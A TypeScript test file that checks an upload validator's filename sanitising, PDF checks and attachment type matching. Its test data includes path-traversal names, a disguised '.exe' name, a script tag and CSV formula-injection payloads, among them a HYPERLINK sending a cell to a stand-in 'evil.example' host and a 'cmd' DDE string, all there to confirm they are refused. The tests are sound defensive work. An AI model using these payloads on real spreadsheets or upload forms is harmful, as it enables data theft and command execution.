import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { PDFDocument } from 'pdf-lib';
import { isAppError, type Problem } from '../errors.ts';
import { checkAttachment, checkUpload, sanitiseFilename } from './store-upload.ts';

const limits = { maxBytes: 64 * 1024 };

async function pdf(pages = 1): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++) doc.addPage().drawText(`Certificate page ${i + 1}`);
  return doc.save();
}

async function refusal(upload: Parameters<typeof checkUpload>[1], check: typeof checkUpload = checkUpload): Promise<{ message: string; file: Problem | undefined }> {
  try {
    await check(limits, upload);
  } catch (e) {
    if (!isAppError(e)) throw e;
    expect(e.code).toBe('invalid_input');
    return { message: e.message, file: e.problems?.file };
  }
  throw new Error('the upload was accepted');
}

describe('sanitiseFilename', () => {
  it.each([
    ['ISO13485-2026.pdf', 'ISO13485-2026.pdf'],
    ['C:\\Users\\wang\\Desktop\\证书 2026.pdf', '证书 2026.pdf'],
    ['../../etc/passwd', 'passwd'],
    ['/var/tmp/../cert.pdf', 'cert.pdf'],
    ['bad\u0000name\r\n.pdf', 'badname.pdf'],
    ['evil\u202Efdp.exe', 'evilfdp.exe'],
    ['..hidden.pdf', 'hidden.pdf'],
    ['a<b>c:d"e|f?g*.pdf', 'a_b_c_d_e_f_g_.pdf'],
    ['   ', 'certificate.pdf'],
    ['', 'certificate.pdf'],
    ['../', 'certificate.pdf'],
  ])('%j → %j', (raw, clean) => {
    expect(sanitiseFilename(raw)).toBe(clean);
  });

  it('cuts long names to 120 characters and keeps the extension', () => {
    const long = sanitiseFilename(`${'x'.repeat(300)}.pdf`);
    expect([...long]).toHaveLength(120);
    expect(long.endsWith('.pdf')).toBe(true);
    const chinese = sanitiseFilename(`${'证'.repeat(200)}.pdf`);
    expect([...chinese]).toHaveLength(120);
    expect(chinese.endsWith('证.pdf')).toBe(true);
  });
});

describe('checkUpload', () => {
  it('accepts a real PDF and gives its SHA-256 and sanitised name', async () => {
    const bytes = await pdf(2);
    const checked = await checkUpload(limits, { name: 'dir/ISO 13485.pdf', bytes });
    expect(checked).toMatchObject({ name: 'ISO 13485.pdf', sizeBytes: bytes.length, contentType: 'application/pdf' });
    expect(checked.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
  });

  it('refuses a missing file', async () => {
    expect((await refusal(null)).file?.code).toBe('files.missing');
    expect((await refusal({ name: '', bytes: new Uint8Array() })).file?.code).toBe('files.missing');
  });

  it('refuses an empty file', async () => {
    expect((await refusal({ name: 'cert.pdf', bytes: new Uint8Array() })).file?.code).toBe('files.empty');
  });

  it('refuses a file over the limit, naming both sizes', async () => {
    const bytes = new Uint8Array(limits.maxBytes + 1);
    bytes.set(new TextEncoder().encode('%PDF-1.7\n'));
    const r = await refusal({ name: 'big.pdf', bytes });
    expect(r.file).toEqual({ code: 'files.tooLarge', params: { max: '0.1' } });
    expect(r.message).toBe('the file is 0.1 MB; the limit is 0.1 MB');
  });

  it('refuses a text file renamed to .pdf (judged by content)', async () => {
    const r = await refusal({ name: 'certificate.pdf', bytes: new TextEncoder().encode('This is not a PDF, only its name says so.\n') });
    expect(r.file?.code).toBe('files.notPdf');
  });

  it('refuses a PDF cut off before its end', async () => {
    const bytes = await pdf();
    expect((await refusal({ name: 'cut.pdf', bytes: bytes.subarray(0, Math.floor(bytes.length / 2)) })).file?.code).toBe('files.truncated');
  });

  it('refuses a file that only looks like a PDF at both ends', async () => {
    const r = await refusal({ name: 'fake.pdf', bytes: new TextEncoder().encode('%PDF-1.7\nnothing to see here\n%%EOF\n') });
    expect(r.file?.code).toBe('files.unreadable');
  });
});

describe('checkAttachment', () => {
  const png = Uint8Array.from(Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwAEAQH/2Q6kqQAAAABJRU5ErkJggg==', 'base64'));
  const jpeg = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]);
  const csv = new TextEncoder().encode('characteristic,value,unit\r\nOuter diameter,4.02,mm\r\n');
  const attachment = (upload: { name: string; bytes: Uint8Array }) => refusal(upload, (l, u) => checkAttachment(l, u!));

  it('accepts a PDF, a PNG, a JPEG and a CSV by their content, named as they are', async () => {
    const kinds = [
      { name: 'report.pdf', bytes: await pdf(), type: 'application/pdf' },
      { name: 'crack.PNG', bytes: png, type: 'image/png' },
      { name: 'detail.jpeg', bytes: jpeg, type: 'image/jpeg' },
      { name: 'detail.jpg', bytes: jpeg, type: 'image/jpeg' },
      { name: 'measurements.csv', bytes: csv, type: 'text/csv' },
    ];
    for (const k of kinds) expect(await checkAttachment(limits, k)).toMatchObject({ name: k.name, contentType: k.type, sizeBytes: k.bytes.length });
  });

  it('refuses a file whose name says another kind than its content, naming the ending its content calls for', async () => {
    expect((await attachment({ name: 'report.pdf', bytes: png })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.png' } });
    expect((await attachment({ name: 'photo.png', bytes: csv })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.csv' } });
    expect((await attachment({ name: 'table.csv', bytes: await pdf() })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.pdf' } });
    // Text that a browser would run once saved under its own name.
    expect((await attachment({ name: 'notes.html', bytes: new TextEncoder().encode('<script>alert(1)</script>') })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.csv' } });
    expect((await attachment({ name: 'photo', bytes: jpeg })).file).toEqual({ code: 'files.nameMismatch', params: { ending: '.jpg' } });
  });

  it('refuses a CSV with a cell a spreadsheet would run as a formula, naming its row and column; numbers with a sign pass', async () => {
    const table = (text: string) => ({ name: 'measurements.csv', bytes: new TextEncoder().encode(text) });
    expect(await checkAttachment(limits, table('characteristic;deviation\r\nOuter diameter;-0.02\r\nLength;+0.5\r\nNote;-.1\r\n'))).toMatchObject({ contentType: 'text/csv' });
    for (const [text, at] of [
      ['a,b\r\nx,=HYPERLINK("https://evil.example/?"&A1;"open")\r\n', { row: 2, column: 2 }],
      ['a,b\r\n"@SUM(1+1)",2\r\n', { row: 2, column: 1 }],
      ['a;b\n1;+cmd|\' /C calc\'!A0\n', { row: 2, column: 2 }],
      ['-2+3+cmd,x\n', { row: 1, column: 1 }],
      ['a,b\n1,"\t=1+1"\n', { row: 2, column: 2 }],
    ] as const) {
      expect((await attachment(table(text))).file, text).toEqual({ code: 'files.csvFormula', params: at });
    }
  });

  it('refuses a file of any other kind, and a broken PDF as checkUpload does', async () => {
    expect((await attachment({ name: 'archive.zip', bytes: Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x80]) })).file?.code).toBe('files.notAttachment');
    expect((await attachment({ name: 'fake.pdf', bytes: new TextEncoder().encode('%PDF-1.7\nnothing to see here\n%%EOF\n') })).file?.code).toBe('files.unreadable');
  });
});
